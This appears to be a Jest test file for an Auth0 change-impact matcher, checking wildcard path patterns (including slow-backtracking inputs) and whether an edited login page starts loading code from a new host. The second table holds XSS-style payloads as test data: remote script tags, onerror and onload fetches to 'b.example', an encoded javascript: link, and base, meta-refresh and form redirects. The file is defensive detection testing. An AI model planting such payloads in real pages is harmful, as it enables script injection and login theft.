/** Whether a row fits a change. */
import type { ValueChange } from "../../../../src/judge/impact/auth0/changes";
import { fitsValue } from "../../../../src/judge/impact/auth0/match";
import type { Row } from "../../../../src/judge/impact/auth0/row";

test.each<[string, string, boolean]>([
  ["a.b", "a.b", true],
  ["a.b", "a.b.c", false],
  ["a.*", "a.b", true],
  ["a.*", "a", false],
  ["a.*_x", "a.b.c_x", false],
  ["*", "a.b", false],
  ["**", "a.b", true],
  ["a.**", "a", true],
  ["a.**", "ab", false],
  ["**.b", "b", true],
  ["a.**.b", "a.c.d.b", true],
  ["a.**.b", "a.xb", false],
  ["**.b.*.d", "b.x.b.c.d", true],
  ["x|a.b*d*f", "a.bcdef", true],
  ["*.*a*a*b", "x.ab", false],
  // Takes hours if each gap is tried at each place.
  ["*a*a*a*a*a*a*a*a*a*a*x", "a".repeat(20_000), false],
  ["**.a.**.a.**.a.**.a.**.a.**.x", "a.".repeat(10_000), false],
])("whether the pattern %s fits a path", (pattern, name, fits) => {
  const change = { path: name, kind: "value", was: "1", is: "2" } as ValueChange;
  const row: Row = { type: "auth0_client", path: pattern, change: "any", level: "low" };
  expect(fitsValue(row, change, {})).toBe(fits);
});

test.each<[string, boolean]>([
  ["<script src=https://b.example/x.js></script>", true],
  ["<script>if (1<2) fetch('https://b.example')</script>", true],
  ["<script src=https://u:p@b.example></script>", true],
  ["<script src='https:&#47;&#x2f;b.example'></script>", true],
  ["<script src='https:\\\\b.example'></script>", true],
  ["<script src=http://localhost></script>", true],
  ["<img src=x onerror=\"fetch('//b.example')\">", true],
  ["<svg/onload=import('//b.example/x.js')>", true],
  ["<img alt=\"x\"onerror=fetch('//b.example')>", true],
  ["<a href=\"java&#115;cript:location='https://b.example'\">", true],
  ["<script src=//[2001:db8::1]/x.js></script>", true],
  ["<script src=https://ä.example/x.js></script>", true],
  ["<base href=https://b.example>", true],
  ["<meta http-equiv=refresh content='0; url=https://b.example'>", true],
  ["<form action=//b.example>", true],
  ["<img src=https://b.example/logo.png><a href=https://b.example>", false],
  ["<script src=https://cdn.auth0.com/js/lock.js></script>", false],
  ["<script>//later https\n1</script>", false],
  ["<script src=https://a.example/y.js></script>", false],
  // Takes minutes if each tag is looked for in all that follow it.
  ["< onx".repeat(50_000), false],
  [`<script>${"/".repeat(200_000)}</script>`, false],
  ["<script>https://".repeat(50_000), false],
  [`<script>${"https:".repeat(50_000)}</script>`, true],
])("whether the page loads code from a new host: %#", (html, loads) => {
  const was = "<script src='https://a.example/x.js'></script>";
  const row: Row = { type: "auth0_pages", path: "login.html", change: "loads", level: "low" };
  expect(fitsValue(row, { path: "login.html", kind: "value", was, is: html } as ValueChange, {})).toBe(loads);
});
